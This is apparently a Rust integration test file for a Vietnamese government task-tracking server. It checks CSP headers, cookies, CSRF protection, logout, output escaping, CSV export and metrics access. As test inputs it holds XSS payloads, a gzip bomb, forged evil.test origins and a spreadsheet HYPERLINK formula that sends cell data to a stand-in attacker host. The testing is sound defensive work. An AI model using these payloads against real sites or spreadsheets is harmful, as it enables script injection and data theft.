//! The web surface against a browser that another site drives (issue 19, point 4): the
//! security headers and the Content-Security-Policy on every response (and pages that keep to
//! it), the cookies' attributes, CSRF tokens on every form that changes state and login CSRF
//! refused, a sign-out that ends the session on the very next request, text typed on a phone
//! escaped wherever it is shown, CSV cells that cannot run as formulas, `/metrics` for the
//! operator only, and no secret in the logs.

mod common;

use std::{
    io::Write,
    sync::{Arc, Mutex, OnceLock},
};

use base64::{Engine, engine::general_purpose::STANDARD};
use common::{DIRECTIVE, PASSWORD, TestApp, TestDb, spawn_app, spawn_app_with};
use sha2::{Digest, Sha256};
use taskforce_core::doc::{Confirmation, Day, Figure, Op, Report, Status, TaskField, TaskRef};
use taskforce_core::sync::wire;
use taskforce_server::{auth::Role, config::Secret, dashboard::DASHBOARD_ROUTES};

const SCRIPT: &str = "\"<script>alert(1)</script>";
const IMG: &str = "\"><img src=x onerror=alert(2)>";
const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Bấm\")";

use common::web::{Answer, agent};

fn get(app: &TestApp, cookie: &str, path: &str) -> Answer {
    let mut req = agent().get(&format!("{}{path}", app.base));
    if !cookie.is_empty() {
        req = req.header("Cookie", cookie);
    }
    Answer::of(req.call().unwrap_or_else(|e| panic!("GET {path}: {e}")))
}

fn post_form(app: &TestApp, path: &str, headers: &[(&str, &str)], form: &[(&str, &str)]) -> Answer {
    let mut req = agent().post(&format!("{}{path}", app.base));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    Answer::of(
        req.send_form(form.iter().copied())
            .unwrap_or_else(|e| panic!("POST {path}: {e}")),
    )
}

/// The `value` of the hidden `csrf` field of a page's form.
fn csrf_field(html: &str) -> String {
    let at = html
        .find("name=\"csrf\" value=\"")
        .unwrap_or_else(|| panic!("no CSRF field in {html}"));
    let rest = &html[at + "name=\"csrf\" value=\"".len()..];
    rest[..rest.find('"').unwrap_or(0)].to_string()
}

/// `name=value` of a `Set-Cookie` line.
fn pair(set_cookie: &str) -> String {
    set_cookie.split(';').next().unwrap_or_default().to_string()
}

/// The sign-in form fetched, then posted from this server's origin: the session cookie.
fn sign_in(app: &TestApp, user: &str) -> String {
    pair(
        sign_in_answer(app, user, "")
            .set_cookie("tf_token")
            .unwrap_or_else(|| panic!("no session cookie")),
    )
}

/// The same, sending `cookies` (`name=value; …`, or empty) besides the form's: the answer.
fn sign_in_answer(app: &TestApp, user: &str, cookies: &str) -> Answer {
    let form = get(app, "", "/login");
    let csrf = csrf_field(&form.body);
    let mut pre = pair(
        form.set_cookie("tf_csrf")
            .unwrap_or_else(|| panic!("no CSRF cookie")),
    );
    if !cookies.is_empty() {
        pre = format!("{pre}; {cookies}");
    }
    let done = post_form(
        app,
        "/login",
        &[("Cookie", &pre), ("Origin", &app.base)],
        &[("username", user), ("password", PASSWORD), ("csrf", &csrf)],
    );
    assert_eq!(done.status, 303, "{}", done.body);
    done
}

fn has_attr(set_cookie: &str, attr: &str) -> bool {
    set_cookie
        .split(';')
        .any(|a| a.trim().eq_ignore_ascii_case(attr))
}

/// A directive text of our own (07/CT-BTTTT), with `hostile` in its title and a clause.
fn directive_text(hostile: &str) -> String {
    include_str!("../../mobile-core/tests/fixtures/ct-btttt-tin-gia.txt")
        .replace(
            "Về việc đẩy mạnh xử lý tin giả",
            &format!("Về việc đẩy mạnh xử lý tin giả {hostile}"),
        )
        .replace(
            "Ngăn chặn kịp thời tin giả",
            &format!("Ngăn chặn kịp thời tin giả {hostile}"),
        )
}

/// The Ministry Office imports a draft: its id.
fn draft(app: &TestApp, hostile: &str) -> String {
    let token = app.token("vanphong");
    let resp = ureq::post(&format!("{}/api/v1/directives/drafts", app.base))
        .header("Authorization", &format!("Bearer {token}"))
        .header("Content-Type", "text/plain; charset=utf-8")
        .send(directive_text(hostile).as_bytes())
        .unwrap_or_else(|e| panic!("a draft: {e}"));
    assert_eq!(resp.status().as_u16(), 201);
    "07-ct-btttt".into()
}

/// Every GET page of the dashboard's route table (`DASHBOARD_ROUTES`, so a new page cannot be
/// missed), its path parameters filled: a clause's `{id}` with II.1-1, a draft's with `draft`,
/// any other `{id}` with each of `units`, `{task}` with `task` (`a0`: the directive's first
/// task); and the report in English too.
fn pages(units: &[&str], task: &str, draft: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (_, path) in DASHBOARD_ROUTES.iter().filter(|(m, _)| *m == "get") {
        let ids: Vec<&str> = if path.starts_with("/clauses/") {
            vec!["II.1-1"]
        } else if path.starts_with("/directives/drafts/") {
            vec![draft]
        } else if path.contains("{id}") {
            units.to_vec()
        } else {
            vec![""]
        };
        for id in ids {
            let p = path.replace("{id}", id).replace("{task}", task);
            assert!(
                !p.contains('{'),
                "{path}: a path parameter this test does not fill; fill it in `pages`"
            );
            out.push(p);
        }
    }
    out.push("/report?lang=en".into());
    out
}

const UNITS: &[&str] = &["cuc-vt", "viettel"];

/// The inline texts of one element kind (`<style>…</style>`).
fn inline(html: &str, tag: &str) -> Vec<String> {
    let open = format!("<{tag}>");
    let close = format!("</{tag}>");
    html.match_indices(&open)
        .filter_map(|(i, _)| {
            let rest = &html[i + open.len()..];
            rest.find(&close).map(|end| rest[..end].to_string())
        })
        .collect()
}

fn sha256_source(text: &str) -> String {
    format!(
        "'sha256-{}'",
        STANDARD.encode(Sha256::digest(text.as_bytes()))
    )
}

#[test]
fn every_response_carries_a_strict_policy_that_the_pages_keep_to() {
    let app = spawn_app(TestDb::sqlite());
    app.create_user("vanphong", Role::MinistryOffice, &[]);
    let session = sign_in(&app, "vanphong");
    let token = session.trim_start_matches("tf_token=").to_string();
    let draft = draft(&app, "");
    let mut answers: Vec<(String, Answer)> = pages(UNITS, "a0", &draft)
        .into_iter()
        .map(|p| {
            let a = get(&app, &session, &p);
            assert_eq!(a.status, 200, "{p}: {}", a.body);
            (p, a)
        })
        .collect();
    assert!(
        answers
            .iter()
            .any(|(p, _)| p == "/units/cuc-vt/tasks/a0/history"),
        "a task's history is among the pages"
    );
    for p in ["/login", "/matrix", "/exports/tasks.csv", "/no/such/page"] {
        let who = if p == "/matrix" { "" } else { session.as_str() };
        answers.push((
            format!("{p} (signed in: {})", !who.is_empty()),
            get(&app, who, p),
        ));
    }
    for p in ["/api/v1/progress", "/healthz", "/api/v1/openapi.json"] {
        let resp = agent()
            .get(&format!("{}{p}", app.base))
            .header("Authorization", &format!("Bearer {token}"))
            .call()
            .unwrap_or_else(|e| panic!("{p}: {e}"));
        answers.push((p.to_string(), Answer::of(resp)));
    }
    answers.push((
        "POST /logout without its token".into(),
        post_form(&app, "/logout", &[("Cookie", &session)], &[]),
    ));
    for (path, a) in &answers {
        let csp = a
            .header("content-security-policy")
            .unwrap_or_else(|| panic!("{path}: no Content-Security-Policy"));
        for directive in [
            "default-src 'none'",
            "img-src 'self' data:",
            "form-action 'self'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
        ] {
            assert!(csp.contains(directive), "{path}: {directive} not in {csp}");
        }
        assert!(
            !csp.contains("unsafe-inline") && !csp.contains("unsafe-eval") && !csp.contains('*'),
            "{path}: {csp}"
        );
        assert_eq!(a.header("x-frame-options"), Some("DENY"), "{path}");
        assert_eq!(
            a.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
        assert_eq!(a.header("referrer-policy"), Some("same-origin"), "{path}");
        assert_eq!(
            a.header("cross-origin-opener-policy"),
            Some("same-origin"),
            "{path}"
        );
    }
    // The pages use nothing the policy refuses: their one stylesheet and script by hash, no
    // `style=` attribute, no event handler attribute, nothing from elsewhere.
    let csp = answers[0]
        .1
        .header("content-security-policy")
        .unwrap_or_default()
        .to_string();
    let mut scripts = 0;
    for (path, a) in answers.iter().filter(|(_, a)| {
        a.header("content-type")
            .is_some_and(|c| c.starts_with("text/html"))
    }) {
        assert!(!a.body.is_empty(), "{path}: empty page");
        let styles = inline(&a.body, "style");
        assert_eq!(styles.len(), 1, "{path}: one stylesheet");
        for s in &styles {
            assert!(
                csp.contains(&sha256_source(s)),
                "{path}: its stylesheet's hash"
            );
        }
        for s in inline(&a.body, "script") {
            scripts += 1;
            assert!(
                csp.contains(&sha256_source(&s)),
                "{path}: its script's hash"
            );
        }
        let lower = a.body.to_ascii_lowercase();
        assert!(!lower.contains(" style=\""), "{path}: a style attribute");
        for handler in [
            " onclick=",
            " onload=",
            " onerror=",
            " onsubmit=",
            "javascript:",
        ] {
            assert!(!lower.contains(handler), "{path}: {handler}");
        }
        assert!(
            !lower.contains("src=\"http"),
            "{path}: a resource from elsewhere"
        );
    }
    assert!(scripts >= 2, "the report's print script, in two languages");
}

/// A sync's answer (binary, never rendered) carries a short policy that allows nothing, and
/// the other headers every response has.
#[test]
fn sync_answers_carry_a_short_policy_that_allows_nothing() {
    let app = spawn_app(TestDb::sqlite());
    app.create_user("cucvt.a", Role::Member, &[("cuc-vt", false)]);
    let mut phone = app.phone("cucvt.a", "cuc-vt");
    phone.status(1, Status::InProgress);
    let body = phone.request_bytes();
    let resp = agent()
        .post(&format!("{}/api/v1/sync", app.base))
        .header("Authorization", &format!("Bearer {}", phone.token))
        .header("X-Taskforce-Device", &phone.actor.to_string())
        .header("Content-Type", "application/octet-stream")
        .send(&body[..])
        .unwrap_or_else(|e| panic!("sync: {e}"));
    let a = Answer::of(resp);
    assert_eq!(a.status, 200, "{}", a.body);
    assert_eq!(
        a.header("content-security-policy"),
        Some("default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
    );
    assert_eq!(a.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(a.header("x-frame-options"), Some("DENY"));
    assert_eq!(a.header("content-type"), Some("application/octet-stream"));
}

/// A gzip-compressed copy of `bytes`.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(bytes).unwrap_or_else(|e| panic!("gzip: {e}"));
    z.finish().unwrap_or_else(|e| panic!("gzip: {e}"))
}

/// A sync answer comes gzip-compressed to a phone that asks for it (`Accept-Encoding:
/// gzip`, as mobile-core's transport does), and plain to one that does not: the same answer
/// decoded, far fewer bytes on the wire (headers included), and `Vary: Accept-Encoding`.
#[test]
fn sync_answers_come_compressed_to_a_phone_that_asks() {
    use std::sync::Arc;
    use taskforce_core::client::{HttpTransport, Transport, WireBytes};
    let app = spawn_app(TestDb::sqlite());
    app.create_user("cucvt.a", Role::Member, &[("cuc-vt", false)]);
    app.create_user("cucvt.b", Role::Member, &[("cuc-vt", false)]);
    let mut writer = app.phone("cucvt.a", "cuc-vt");
    for day in 3..=28 {
        writer.edit(Op::Report(Report {
            period: format!("2020-02-{day:02}"),
            text: "Đã gửi tin nhắn khuyến cáo phòng chống dịch tới thuê bao.".into(),
            figures: vec![Figure {
                name: "sms_sent".into(),
                value: 1_000 * day,
            }],
            at: 1_580_860_800 + day,
        }));
    }
    writer.sync(&app);
    let mut reader = app.phone("cucvt.b", "cuc-vt");
    let body = reader.request_bytes();
    let answer = |gzip: bool| {
        let bytes = Arc::new(WireBytes::default());
        let t = HttpTransport::counting(&app.base, bytes.clone(), gzip);
        let reply = t
            .post_sync(&reader.token, reader.actor, body.clone())
            .unwrap_or_else(|e| panic!("sync: {e}"));
        assert_eq!(reply.status, 200);
        (reply.body, bytes.read().1)
    };
    let (plain, plain_wire) = answer(false);
    let (unpacked, gzip_wire) = answer(true);
    assert_eq!(unpacked, plain, "the same answer");
    assert!(
        gzip_wire * 2 < plain_wire,
        "{gzip_wire} bytes received compressed, {plain_wire} plain"
    );
    wire::decode_response(&plain).unwrap_or_else(|e| panic!("the answer: {e}"));
    // What a cache between must know: the answer depends on the request's Accept-Encoding.
    let resp = agent()
        .post(&format!("{}/api/v1/sync", app.base))
        .header("Authorization", &format!("Bearer {}", reader.token))
        .header("X-Taskforce-Device", &reader.actor.to_string())
        .header("Content-Type", "application/octet-stream")
        .header("Accept-Encoding", "gzip")
        .send(&body[..])
        .unwrap_or_else(|e| panic!("sync: {e}"));
    let a = Answer::of(resp);
    assert_eq!(a.status, 200);
    assert!(
        a.header("vary")
            .is_some_and(|v| v.to_ascii_lowercase().contains("accept-encoding")),
        "{:?}",
        a.header("vary")
    );
}

/// A request body in a content coding (gzip …) is refused with `415 unsupported_encoding`
/// before it is read: a small compressed body must not unpack into megabytes in the server's
/// memory, and no client of ours compresses what it sends. Nothing is taken.
#[test]
fn bodies_in_a_content_coding_are_refused_unread() {
    let app = spawn_app(TestDb::sqlite());
    app.create_user("cucvt.a", Role::Member, &[("cuc-vt", false)]);
    let mut phone = app.phone("cucvt.a", "cuc-vt");
    phone.status(1, Status::InProgress);
    phone.sync(&app);
    phone.status(1, Status::Done);
    let ops_before = app.document(&phone.token, "cuc-vt")["ops"].as_u64();
    assert!(
        ops_before.is_some_and(|n| n > 0),
        "the first sync was taken"
    );
    // A sync whose body is a valid request, gzip-compressed; and 64 MiB of zeros in 64 kB.
    let bomb = gzip(&vec![0u8; 64 << 20]);
    for (body, coding) in [
        (gzip(&phone.request_bytes()), "gzip"),
        (bomb.clone(), "gzip"),
        (bomb, "deflate"),
        (phone.request_bytes(), "br"),
    ] {
        let mut resp = agent()
            .post(&format!("{}/api/v1/sync", app.base))
            .header("Authorization", &format!("Bearer {}", phone.token))
            .header("X-Taskforce-Device", &phone.actor.to_string())
            .header("Content-Type", "application/octet-stream")
            .header("Content-Encoding", coding)
            .send(&body[..])
            .unwrap_or_else(|e| panic!("sync: {e}"));
        let status = resp.status().as_u16();
        let json: serde_json::Value = resp.body_mut().read_json().unwrap_or_default();
        assert_eq!(status, 415, "{coding}: {json}");
        assert_eq!(json["error"], "unsupported_encoding", "{json}");
        assert!(
            json["message"].as_str().is_some_and(|m| m.contains(coding)),
            "{json}"
        );
    }
    assert_eq!(
        app.document(&phone.token, "cuc-vt")["ops"].as_u64(),
        ops_before,
        "nothing taken"
    );
    // The JSON routes too: a sign-in in gzip is refused, not unpacked.
    let login = serde_json::json!({ "username": "cucvt.a", "password": PASSWORD });
    let resp = agent()
        .post(&format!("{}/api/v1/auth/login", app.base))
        .header("Content-Type", "application/json")
        .header("Content-Encoding", "gzip")
        .send(&gzip(login.to_string().as_bytes())[..])
        .unwrap_or_else(|e| panic!("login: {e}"));
    assert_eq!(resp.status().as_u16(), 415);
    // `identity` is no coding at all: taken as it is.
    let resp = agent()
        .post(&format!("{}/api/v1/auth/login", app.base))
        .header("Content-Type", "application/json")
        .header("Content-Encoding", "identity")
        .send(login.to_string().as_bytes())
        .unwrap_or_else(|e| panic!("login: {e}"));
    assert_eq!(resp.status().as_u16(), 200);
    // And the phone, as it is, still syncs.
    phone.sync(&app);
}

#[test]
fn cookies_are_http_only_strict_on_the_root_path_and_secure_over_tls() {
    let app = spawn_app(TestDb::sqlite());
    app.create_user("vanphong", Role::MinistryOffice, &[]);
    for tls in [false, true] {
        let proto: &[(&str, &str)] = if tls {
            &[("X-Forwarded-Proto", "https")]
        } else {
            &[]
        };
        let mut req = agent().get(&format!("{}/login?lang=en", app.base));
        for (k, v) in proto {
            req = req.header(*k, *v);
        }
        let form = Answer::of(req.call().unwrap_or_else(|e| panic!("{e}")));
        let csrf = csrf_field(&form.body);
        let pre_line = form
            .set_cookie("tf_csrf")
            .unwrap_or_else(|| panic!("no CSRF cookie"))
            .to_string();
        let lang_line = form
            .set_cookie("tf_lang")
            .unwrap_or_else(|| panic!("no language cookie"))
            .to_string();
        let pre = pair(&pre_line);
        let mut headers = vec![("Cookie", pre.as_str())];
        headers.extend_from_slice(proto);
        let origin = if tls {
            app.base.replace("http://", "https://")
        } else {
            app.base.clone()
        };
        headers.push(("Origin", &origin));
        let done = post_form(
            &app,
            "/login",
            &headers,
            &[
                ("username", "vanphong"),
                ("password", PASSWORD),
                ("csrf", &csrf),
            ],
        );
        assert_eq!(done.status, 303, "{}", done.body);
        let session_line = done
            .set_cookie("tf_token")
            .unwrap_or_else(|| panic!("no session cookie"))
            .to_string();
        for line in [&pre_line, &lang_line, &session_line] {
            assert!(has_attr(line, "HttpOnly"), "{line}");
            assert!(has_attr(line, "SameSite=Strict"), "{line}");
            assert!(has_attr(line, "Path=/"), "{line}");
            assert_eq!(has_attr(line, "Secure"), tls, "tls {tls}: {line}");
        }
    }
}

/// Request headers, name and value.
type Headers<'a> = Vec<(&'a str, &'a str)>;

fn login_fields(csrf: &str) -> [(&str, &str); 3] {
    [
        ("username", "vanphong"),
        ("password", PASSWORD),
        ("csrf", csrf),
    ]
}

#[test]
fn the_sign_in_form_refuses_posts_without_its_token_or_from_another_site() {
    let app = spawn_app(TestDb::sqlite());
    app.create_user("vanphong", Role::MinistryOffice, &[]);
    let form = get(&app, "", "/login");
    let csrf = csrf_field(&form.body);
    let pre = pair(form.set_cookie("tf_csrf").unwrap_or_default());
    let other = "tf_csrf=0000000000000000000000000000000000000000000000000000000000000000";
    let refused: Vec<(&str, Headers<'_>, bool)> = vec![
        ("no token, no cookie", vec![], false),
        (
            "the cookie without the field",
            vec![("Cookie", pre.as_str())],
            false,
        ),
        ("a token of another cookie", vec![("Cookie", other)], true),
        (
            "another site's origin",
            vec![("Cookie", pre.as_str()), ("Origin", "http://evil.test")],
            true,
        ),
        (
            "an opaque origin",
            vec![("Cookie", pre.as_str()), ("Origin", "null")],
            true,
        ),
        (
            "the browser says cross-site",
            vec![("Cookie", pre.as_str()), ("Sec-Fetch-Site", "cross-site")],
            true,
        ),
        (
            "the browser says same-site (a sibling subdomain)",
            vec![
                ("Cookie", pre.as_str()),
                ("Origin", &app.base),
                ("Sec-Fetch-Site", "same-site"),
            ],
            true,
        ),
    ];
    for (what, headers, with_field) in &refused {
        let field = if *with_field { csrf.as_str() } else { "" };
        let a = post_form(&app, "/login", headers, &login_fields(field));
        assert_eq!(a.status, 403, "{what}: {}", a.body);
        assert!(a.body.contains("id=\"csrf-refused\""), "{what}: a page");
        assert!(a.set_cookie("tf_token").is_none(), "{what}: no session");
    }
    // A second sign-in tab gets the same token (masked afresh, so other bytes on the page),
    // and the first tab's form still works.
    let again = get(&app, &pre, "/login");
    let cookie = pre.trim_start_matches("tf_csrf=");
    assert_ne!(csrf_field(&again.body), csrf);
    assert!(
        !again.body.contains(cookie),
        "the token itself is on no page"
    );
    assert!(taskforce_server::http::csrf_matches(
        cookie,
        &csrf_field(&again.body)
    ));
    // From the form's own page it signs in, whether the browser sends Origin or not.
    for headers in [
        vec![
            ("Cookie", pre.as_str()),
            ("Origin", app.base.as_str()),
            ("Sec-Fetch-Site", "same-origin"),
        ],
        vec![("Cookie", pre.as_str())],
    ] {
        let a = post_form(&app, "/login", &headers, &login_fields(&csrf));
        assert_eq!(a.status, 303, "{}", a.body);
        assert!(a.set_cookie("tf_token").is_some());
    }
}

/// Every POST route of the dashboard's route table (so a new form cannot be missed), sent by a
/// signed-in browser holding the sign-in form's CSRF cookie too, from this server's origin:
/// without a token, with an empty one, or with a wrong one, it is refused (403, the CSRF page),
/// does nothing (no new session, still signed in), whatever else the form carries.
#[test]
fn every_dashboard_form_refuses_a_missing_or_wrong_csrf_token() {
    let app = spawn_app(TestDb::sqlite());
    app.create_user("vanphong", Role::MinistryOffice, &[]);
    let session = sign_in(&app, "vanphong");
    let form = get(&app, "", "/login");
    let pre = pair(form.set_cookie("tf_csrf").unwrap_or_default());
    let cookies = format!("{session}; {pre}");
    let wrong = "0".repeat(64);
    let posts: Vec<&str> = DASHBOARD_ROUTES
        .iter()
        .filter(|(m, _)| *m == "post")
        .map(|(_, p)| *p)
        .collect();
    assert!(
        posts.contains(&"/login") && posts.contains(&"/logout"),
        "{posts:?}"
    );
    for path in &posts {
        let path = &path.replace("{id}", "07-ct-btttt");
        assert!(!path.contains('{'), "{path}: fill its path parameters here");
        for token in [None, Some(""), Some(wrong.as_str())] {
            let mut fields = vec![("username", "vanphong"), ("password", PASSWORD)];
            if let Some(t) = token {
                fields.push(("csrf", t));
            }
            let a = post_form(
                &app,
                path,
                &[("Cookie", &cookies), ("Origin", &app.base)],
                &fields,
            );
            assert_eq!(a.status, 403, "POST {path} with {token:?}: {}", a.body);
            assert!(
                a.body.contains("id=\"csrf-refused\""),
                "POST {path} with {token:?}: the CSRF page"
            );
            assert!(
                a.set_cookie("tf_token").is_none(),
                "POST {path} with {token:?}: no session"
            );
            assert_eq!(
                get(&app, &session, "/matrix").status,
                200,
                "POST {path} with {token:?}: still signed in"
            );
        }
    }
}

fn sign_out_ends_the_session_at_once_and_only_with_its_token(db: TestDb) {
    let app = spawn_app(db);
    app.create_user("vanphong", Role::MinistryOffice, &[]);
    let session = sign_in(&app, "vanphong");
    let token = session.trim_start_matches("tf_token=").to_string();
    let page = get(&app, &session, "/");
    assert_eq!(page.status, 200);
    let csrf = csrf_field(&page.body);
    // The API has the token cached now.
    assert_eq!(app.get(&token, "/api/v1/me").0, 200);

    // Another site's form, or one without the token, does not sign the user out.
    for (headers, field) in [
        (vec![("Cookie", session.as_str())], ""),
        (vec![("Cookie", session.as_str())], "0123"),
        (
            vec![("Cookie", session.as_str()), ("Origin", "http://evil.test")],
            csrf.as_str(),
        ),
    ] {
        let a = post_form(&app, "/logout", &headers, &[("csrf", field)]);
        assert_eq!(a.status, 403, "{headers:?}");
        assert!(a.body.contains("id=\"csrf-refused\""));
        assert_eq!(
            get(&app, &session, "/matrix").status,
            200,
            "still signed in"
        );
    }
    // Another session's token does not sign this one out.
    let other = sign_in(&app, "vanphong");
    let other_csrf = csrf_field(&get(&app, &other, "/").body);
    assert_ne!(other_csrf, csrf);
    let a = post_form(
        &app,
        "/logout",
        &[("Cookie", &session)],
        &[("csrf", &other_csrf)],
    );
    assert_eq!(a.status, 403);

    let a = post_form(
        &app,
        "/logout",
        &[("Cookie", &session), ("Origin", &app.base)],
        &[("csrf", &csrf)],
    );
    assert_eq!(a.status, 303);
    assert_eq!(a.header("location"), Some("/login"));
    // The very next requests with the old value: the page sends to sign-in, the API refuses.
    let page = get(&app, &session, "/matrix");
    assert_eq!(page.status, 303);
    assert_eq!(page.header("location"), Some("/login"));
    assert_eq!(app.get(&token, "/api/v1/me").0, 401);
    assert_eq!(app.fetch(&token, "/exports/tasks.csv").0, 401);
    // The other session lives on.
    assert_eq!(get(&app, &other, "/matrix").status, 200);
}

/// Phones of Cục Viễn thông and Viettel write hostile text into every field the dashboard,
/// the JSON and the exports show.
fn hostile_text_from_phones_is_shown_as_text(db: TestDb) {
    let app = spawn_app(db);
    app.create_user("cucvt.a", Role::Member, &[("cuc-vt", false)]);
    app.create_user("viettel.a", Role::Member, &[("viettel", false)]);
    app.create_user("vanphong", Role::MinistryOffice, &[]);
    let mut phone = app.phone("cucvt.a", "cuc-vt");
    let sms = phone
        .replica
        .doc()
        .header()
        .task_index("II.1-1")
        .unwrap_or_else(|| panic!("no SMS task"));
    phone.status(sms, Status::InProgress);
    phone.set(sms, TaskField::Assignee(FORMULA.into()));
    phone.set(sms, TaskField::Notes(format!("{SCRIPT} {IMG}")));
    phone.edit(Op::AddTask {
        parent: None,
        title: format!("{FORMULA}{SCRIPT}"),
    });
    phone.edit(Op::Comment {
        task: TaskRef::Assigned(sms),
        text: IMG.into(),
        at: 1_580_000_000,
    });
    phone.edit(Op::Report(Report {
        period: SCRIPT.into(),
        text: IMG.into(),
        figures: vec![Figure {
            name: format!("{SCRIPT}{IMG}"),
            value: -5,
        }],
        at: chrono::Utc::now().timestamp(),
    }));
    phone.sync(&app);
    let mut carrier = app.phone("viettel.a", "viettel");
    carrier.edit(Op::Confirm(Confirmation {
        carrier: SCRIPT.into(),
        hotline: IMG.into(),
        free_from: Day::from_date(chrono::NaiveDate::from_ymd_opt(2020, 2, 1).unwrap_or_default()),
        attested_by: SCRIPT.into(),
        evidence: None,
        at: 1_580_000_000,
    }));
    carrier.sync(&app);

    let session = sign_in(&app, "vanphong");
    let escaped_script = "&quot;&lt;script&gt;alert(1)&lt;/script&gt;";
    let escaped_img = "&quot;&gt;&lt;img src=x onerror=alert(2)&gt;";
    let mut shown = 0;
    // A directive text carrying the same, on the review page.
    let draft = draft(&app, &format!("{SCRIPT} {IMG}"));
    for p in pages(UNITS, &format!("a{sms}"), &draft) {
        let a = get(&app, &session, &p);
        assert_eq!(a.status, 200, "{p}");
        assert_eq!(
            a.header("content-type"),
            Some("text/html; charset=utf-8"),
            "{p}"
        );
        for raw in ["<script>alert", "<img src=x", "onerror=alert(2)>"] {
            assert!(!a.body.contains(raw), "{p}: {raw} reached the page raw");
        }
        if a.body.contains(escaped_script) || a.body.contains(escaped_img) {
            shown += 1;
        }
    }
    // The unit's reports (period, text, figure) and the confirmations (carrier, hotline), on
    // the unit pages and the hotlines page.
    let unit = get(&app, &session, "/units/cuc-vt").body;
    assert!(
        unit.contains(escaped_script) && unit.contains(escaped_img),
        "{unit}"
    );
    let hotlines = get(&app, &session, "/hotlines").body;
    assert!(
        hotlines.contains(escaped_script) && hotlines.contains(escaped_img),
        "{hotlines}"
    );
    // The task's history: its notes and its comment.
    let history = get(
        &app,
        &session,
        &format!("/units/cuc-vt/tasks/a{sms}/history"),
    )
    .body;
    assert!(
        history.contains(escaped_script) && history.contains(escaped_img),
        "{history}"
    );
    assert!(shown >= 3, "shown on {shown} pages");

    // The JSON carries the text as JSON, labelled as JSON (never sniffed as HTML).
    let token = app.token("vanphong");
    for path in ["/api/v1/reports", "/api/v1/tasks", "/api/v1/confirmations"] {
        let resp = agent()
            .get(&format!("{}{path}?directive={DIRECTIVE}", app.base))
            .header("Authorization", &format!("Bearer {token}"))
            .call()
            .unwrap_or_else(|e| panic!("{e}"));
        let a = Answer::of(resp);
        assert_eq!(a.status, 200, "{path}: {}", a.body);
        assert!(
            a.header("content-type")
                .is_some_and(|c| c.starts_with("application/json")),
            "{path}: {:?}",
            a.header("content-type")
        );
        assert_eq!(a.header("x-content-type-options"), Some("nosniff"));
        let json: serde_json::Value =
            serde_json::from_str(&a.body).unwrap_or_else(|e| panic!("{path}: {e}: {}", a.body));
        let text = json.to_string();
        assert!(
            text.contains("alert(1)") || text.contains("alert(2)") || text.contains("HYPERLINK"),
            "{path}: the text is kept as typed: {text:.500}"
        );
    }

    // The CSV: the assignee and the ad-hoc title cannot run as formulas; numbers stay numbers.
    let (status, csv) = app.fetch(&token, "/exports/tasks.csv");
    assert_eq!(status, 200);
    let text = String::from_utf8(csv).unwrap_or_else(|e| panic!("{e}"));
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap_or_else(|e| panic!("{e}"))
        .iter()
        .map(String::from)
        .collect();
    let col = |name: &str| {
        headers
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}: {headers:?}"))
    };
    let (assignee, title, progress) = (
        col("Người thực hiện"),
        col("Tên nhiệm vụ"),
        col("Tiến độ (%)"),
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap_or_default()).collect();
    assert!(!rows.is_empty());
    let mut formulas = 0;
    for r in &rows {
        for c in [assignee, title] {
            let cell = r.get(c).unwrap_or_default();
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell that runs: {cell:?}"
            );
            if cell.starts_with("'=HYPERLINK(") {
                formulas += 1;
                assert!(cell[1..].starts_with(FORMULA), "{cell:?}: the text whole");
            }
        }
        let p = r.get(progress).unwrap_or_default();
        assert!(p.parse::<f64>().is_ok(), "progress stays a number: {p:?}");
    }
    assert_eq!(formulas, 2, "the assignee and the ad-hoc title");
}

#[test]
fn metrics_answer_loopback_callers_by_default_and_else_only_the_token() {
    let app = spawn_app(TestDb::sqlite());
    let metrics = |app: &TestApp, headers: &[(&str, &str)]| {
        let mut req = agent().get(&format!("{}/metrics", app.base));
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        Answer::of(req.call().unwrap_or_else(|e| panic!("{e}")))
    };
    let a = metrics(&app, &[]);
    assert_eq!(a.status, 200, "loopback, no token configured");
    assert!(a.body.contains("taskforce_http_requests_total"));
    // Through a reverse proxy on the host every Internet request is a loopback one: one that
    // carries a proxy's header is refused.
    let proxied: [(&str, &str); 6] = [
        ("Forwarded", "for=198.51.100.7;proto=https"),
        ("X-Forwarded-For", "198.51.100.7"),
        ("X-Forwarded-Host", "taskforce.example.vn"),
        ("X-Forwarded-Proto", "https"),
        ("X-Real-IP", "198.51.100.7"),
        ("Via", "1.1 nginx"),
    ];
    for header in proxied {
        let a = metrics(&app, &[header]);
        assert_eq!(a.status, 403, "{header:?}: {}", a.body);
        let body: serde_json::Value = serde_json::from_str(&a.body).unwrap_or_default();
        assert_eq!(body["error"], "forbidden", "{}", a.body);
        assert!(!a.body.contains("taskforce_http_requests_total"));
    }
    drop(app);

    let secret = "metrics-secret-for-the-test-0123456789";
    let app = spawn_app_with(TestDb::sqlite(), |c| {
        c.metrics_token = Some(Secret(secret.into()));
    });
    for auth in [
        None,
        Some("Bearer wrong"),
        Some("Bearer metrics-secret-for-the-test-012345678"),
        Some("Basic bWV0cmljczpzZWNyZXQ="),
    ] {
        let headers: Vec<(&str, &str)> = auth.map(|a| ("Authorization", a)).into_iter().collect();
        let a = metrics(&app, &headers);
        assert_eq!(a.status, 401, "{auth:?}: {}", a.body);
        let body: serde_json::Value = serde_json::from_str(&a.body).unwrap_or_default();
        assert_eq!(body["error"], "unauthorized", "{}", a.body);
        assert!(!a.body.contains("taskforce_http_requests_total"));
    }
    let bearer = format!("Bearer {secret}");
    let a = metrics(&app, &[("Authorization", &bearer)]);
    assert_eq!(a.status, 200);
    assert!(a.body.contains("taskforce_http_requests_total"));
    // With the token, a scraper behind a proxy reads them.
    let a = metrics(
        &app,
        &[
            ("Authorization", &bearer),
